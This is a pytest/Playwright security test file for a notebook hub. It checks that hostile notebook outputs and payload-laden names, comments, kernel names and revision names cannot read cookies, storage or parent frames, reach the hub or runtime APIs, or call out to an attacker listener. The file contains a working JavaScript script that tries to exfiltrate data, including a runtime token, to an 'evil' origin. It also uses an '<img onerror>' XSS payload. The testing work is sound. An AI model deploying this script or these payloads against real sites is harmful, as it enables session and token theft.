"""What outputs of others, and hostile code in one's own, can reach: nothing. Somebody else's server listens."""

import re
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import LIMIT_MS
from listener import listener
from payloads import kernelspecs, notebook, payloads
from playwright.sync_api import Browser, BrowserContext, Page, expect
from servers import Jupyter, jupyter, server_flags, wait_until
from stage import Stage
from steps import (
    bring_into_view,
    choose_panel,
    connect,
    connected,
    next_picture,
    open_notebook,
    output,
    press_inside,
    ran,
    run_cell,
    sign_in,
    trust_what_is_asked,
)

EVERYTHING = """from IPython.display import HTML
HTML('''<pre id="log"></pre><script>
const lines = [];
const log = document.getElementById("log");
const note = (name, what) => { lines.push(name + ": " + what); log.textContent = lines.join("\\\\n"); };
const attempt = async (name, work) => {
  try { note(name, "got " + (await work())); } catch (error) { note(name, "refused"); }
};
const evil = "EVIL", hub = "HUB", runtime = "RUNTIME", token = "TOKEN";
const opened = (what) => new Promise((give, refuse) => { what.onopen = () => give("open"); what.onerror = refuse; });
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("localStorage", () => localStorage.length);
  await attempt("indexedDB", () => new Promise((give, refuse) => {
    const asked = indexedDB.open("x"); asked.onsuccess = () => give("open"); asked.onerror = refuse; }));
  await attempt("caches", () => caches.keys());
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => top.location.href);
  await attempt("sibling", () => [...Array(parent.length).keys()]
    .map((index) => parent.frames[index]).find((other) => other !== window).document.title);
  await attempt("service worker", () => navigator.serviceWorker.register("/frame/v1/frame.html"));
  await attempt("fetch evil", () => fetch(evil + "/fetch", { mode: "no-cors" }));
  await attempt("fetch hub", () => fetch(hub + "/api/v1/home", { credentials: "include" }));
  await attempt("fetch runtime", () => fetch(runtime + "/api/kernels?token=" + token));
  await attempt("socket evil", () => opened(new WebSocket(evil.replace("http", "ws") + "/socket")));
  await attempt("socket runtime", () => opened(
    new WebSocket(runtime.replace("http", "ws") + "/api/events/subscribe?token=" + token)));
  await attempt("events", () => opened(new EventSource(evil + "/events")));
  navigator.sendBeacon(evil + "/beacon", "x");
  new Image().src = evil + "/image";
  for (const [tag, set] of [["script", { src: evil + "/script" }], ["link", { rel: "stylesheet", href: evil + "/css" }],
      ["link", { rel: "prefetch", href: evil + "/prefetch" }], ["link", { rel: "preconnect", href: evil }],
      ["iframe", { src: evil + "/iframe" }], ["iframe", { src: hub + "/api/v1/home" }],
      ["object", { data: evil + "/object" }], ["video", { src: evil + "/video" }]])
    document.body.append(Object.assign(document.createElement(tag), set));
  const form = Object.assign(document.createElement("form"), { action: evil + "/form", method: "post" });
  document.body.append(form); form.submit();
  try { top.location = evil + "/top"; } catch { note("navigate top", "refused"); }
  await attempt("popup", () => { if (open(evil + "/popup") === null) throw new Error("no window"); });
  try { new BroadcastChannel("runhere-kernel:x").postMessage({ kind: "hello" }); } catch { /* or none at all */ }
  note("origin", self.origin);
  note("done", "tried everything");
  log.onclick = () => { location.href = hub + "/api/v1/home"; }; // once it was read
})();
</script>''')"""


NAME = "<img src=x onerror=top.__pwned=1>"


def quiet(context: BrowserContext) -> BrowserContext:
    """A page that is attacked complains in its console, as it should; a dialog would be an attack that came through."""
    context.on("dialog", lambda dialog: dialog.dismiss())
    context.on("page", trust_what_is_asked)
    return context


@pytest.fixture
def victim(stage: Stage, browser: Browser, browser_name: str) -> Callable[[], BrowserContext]:
    """Like `person`, but the attacks' complaints in the console are no failures."""

    def make() -> BrowserContext:
        context = quiet(browser.new_context(locale="en-US", viewport={"width": 1280, "height": 1400}))
        context.set_default_timeout(LIMIT_MS)
        sign_in(context.new_page(), stage.next_link())
        return context

    return make


def test_hostile_code_in_an_output_reaches_nothing(
    stage: Stage, stock: Jupyter, victim: Callable[[], BrowserContext], browser_name: str
) -> None:
    with listener() as evil:
        source = EVERYTHING
        for name, value in {
            "EVIL": evil.origin,
            "HUB": stage.hub.origin,
            "RUNTIME": stock.url,
            "TOKEN": stock.token,
        }.items():
            source = source.replace(f'"{name}"', f'"{value}"')
        name = f"Hostile {browser_name}"
        other = "from IPython.display import HTML\nHTML('<p>another output</p><script>1</script>')"
        stage.put(name, source, "1 + 1", other)
        context = victim()
        if browser_name == "chromium":  # the hub's page may reach this machine, as pages of a far hub are allowed to
            context.grant_permissions(["local-network-access"], origin=stage.hub.origin)
        page = stage.open(context, name)
        connect(page, stock.pasted)
        answered: list[str] = []
        # What the policy stops may be announced as a request, but nobody answers it.
        page.on(
            "response", lambda got: answered.append(f"{got.status} {got.url}") if got.frame != page.main_frame else None
        )
        for position in (3, 1):
            run_cell(page, position)
            ran(page, position)
        expect(output(page, 3).locator("iframe").content_frame.get_by_text("another output")).to_be_visible()
        log = output(page, 1).locator("iframe").content_frame.locator("#log")
        expect(log).to_contain_text("tried everything")
        told = log.inner_text()
        press_inside(log)
        if browser_name == "chromium":  # it left, for where nothing answers; Firefox does not let it leave
            expect(log).to_have_count(0)
        run_cell(page, 2)
        expect(output(page, 2)).to_contain_text("2")
        refused = [line for line in told.splitlines() if not line.endswith(": refused")]
        assert refused == ["origin: null", "done: tried everything"], told
        assert evil.hits == []
        assert [line for line in answered if "/api/" in line] == []
        # The listener hears whoever may speak.
        page.context.new_page().goto(f"{evil.origin}/twin")
        assert evil.hits[0] == "/twin"
        context.close()


def test_no_payload_in_any_field_runs_in_the_page_or_calls_out(
    stage: Stage, victim: Callable[[], BrowserContext], browser_name: str, tmp_path: Path
) -> None:
    with listener() as evil:
        name = f"Payloads {browser_name} <img src=x onerror=top.__pwned=1>"
        (stage.hub.folder / f"{name}.ipynb").write_text(notebook(evil.origin), encoding="utf-8")
        context = victim()
        page = context.new_page()
        page.goto(stage.hub.origin)
        open_notebook(page, name)
        titles = {page.title()}
        page.get_by_role("list").first.click(position={"x": 2, "y": 2})
        walk(page, len(payloads(evil.origin)) * 3)
        titles.add(page.title())
        page.get_by_role("button", name="Table of contents").click()
        expect(page.get_by_role("heading", name="Table of contents")).to_be_visible()
        look_at_comments(page, payloads(evil.origin))
        look_at_kernels(page, stage, tmp_path, evil.origin)
        look_at_versions_and_search(page, stage.hub.origin)
        assert page.evaluate(
            "[window.__pwned, typeof config, document.querySelectorAll('script:not([src])').length]"
        ) == [
            None,
            "undefined",
            0,
        ]
        assert evil.hits == []
        assert len(titles) == 1

        # The payloads are live: in a page of their own, half of them run or call out.
        evil.page = "".join(f"<div>{text}</div>" for text in payloads(evil.origin) if "refresh" not in text)
        bare = context.new_page()
        bare.goto(f"{evil.origin}/page")
        wait_until(
            lambda: len({hit.partition("?")[2].strip("/") for hit in evil.hits if "?" in hit}) >= 15,
            what="half of the payloads to run or call out",
        )
        context.close()


def look_at_comments(page: Page, texts: list[str]) -> None:
    """The payloads are said about the first cell, four in a comment, because a hub lets nobody say much at once."""
    texts = ["\n".join(texts[at : at + 4]) for at in range(0, len(texts), 4)]
    made = page.evaluate(
        """async ([id, texts]) => {
          const post = (body) => fetch(`/api/v1/notebooks/${id}/comments`, { method: "POST",
            headers: { "Content-Type": "application/json" }, body: JSON.stringify({ cell_id: "c0", body }) });
          const statuses = [];
          for (const text of texts) statuses.push((await post(text)).status);
          return statuses;
        }""",
        [page.url.rsplit("/", 1)[1][:32], texts],
    )
    assert made == [201] * len(texts)
    comments = choose_panel(page, "Comments")
    expect(comments.get_by_role("listitem")).to_have_count(len(texts))
    shown = comments.inner_text()
    assert [text for text in texts if squeezed(text) not in squeezed(shown)] == []
    expect(comments.get_by_role("img")).to_have_count(0)
    # An address is a link, and nothing else of it is: whoever follows one goes there by himself.
    links = comments.get_by_role("link").evaluate_all("(found) => found.map((one) => one.protocol)")
    assert set(links) <= {"http:", "https:"}
    assert page.evaluate("window.__pwned") is None


def squeezed(text: str) -> str:
    """Without what lines are broken at."""
    return re.sub(r"\s+", "", text)


def look_at_kernels(page: Page, stage: Stage, place: Path, evil: str) -> None:
    """A runtime whose kernels have payloads for names: listed, chosen, run, and told of."""
    for folder, file in kernelspecs(evil, sys.executable).items():
        (place / "kernels" / folder).mkdir(parents=True)
        (place / "kernels" / folder / "kernel.json").write_text(file, encoding="utf-8")
    told = payloads(evil)[2]
    flags = server_flags(stage.hub.origin)
    with jupyter("server", stage.hub.folder, *flags, env={"JUPYTER_PATH": str(place)}) as runtime:
        connect(page, runtime.pasted)
        page.get_by_role("button", name="Connection options").click()
        page.get_by_role("menuitem", name="Kernel", exact=True).click()
        expect(page.get_by_role("menuitemcheckbox")).to_have_count(len(payloads(evil)) + 1)  # and Python's own
        page.get_by_role("menuitemcheckbox", name=told, exact=True).click()
        page.get_by_role("alertdialog").get_by_role("button", name="Change kernel").click()
        connected(page)
        bring_into_view(page, 1)
        run_cell(page, 1)
        ran(page, 1)
        page.get_by_role("button", name=re.compile("^Connected to ")).click()
        expect(page.get_by_role("dialog").get_by_role("button", name=re.compile("^" + re.escape(told)))).to_be_visible()
        page.keyboard.press("Escape")
        assert page.evaluate("window.__pwned") is None


def look_at_versions_and_search(page: Page, origin: str) -> None:
    """A version that is named by a payload and compared, and search results that quote payloads and files' names."""
    named = page.evaluate(
        """async ([id, name]) => (await fetch(`/api/v1/notebooks/${id}/revisions`, {
          method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name }) })).status""",
        [page.url.rsplit("/", 1)[1][:32], NAME],
    )
    assert named == 201
    page.get_by_role("menuitem", name="File", exact=True).click()
    page.get_by_role("menuitem", name="Revision history", exact=True).click()
    history = page.get_by_role("dialog", name="Revision history")
    history.get_by_role("button", name=NAME).first.click()
    expect(history.get_by_role("status").first).to_be_visible()
    assert page.evaluate("window.__pwned") is None
    page.goto(origin)
    page.get_by_role("searchbox").fill("heading")
    expect(page.get_by_role("region", name="Search results").get_by_text("heading").first).to_be_visible()


def walk(page: Page, cells: int) -> None:
    """Bring every cell into sight, one after another, as somebody who reads."""
    seen = 0
    while seen < cells:
        page.mouse.move(640, 700)
        page.mouse.wheel(0, 1_100)
        next_picture(page)
        last = page.locator("[role=listitem]").last.get_attribute("aria-posinset")
        if last is not None and int(last) >= cells:
            break
        seen += 1
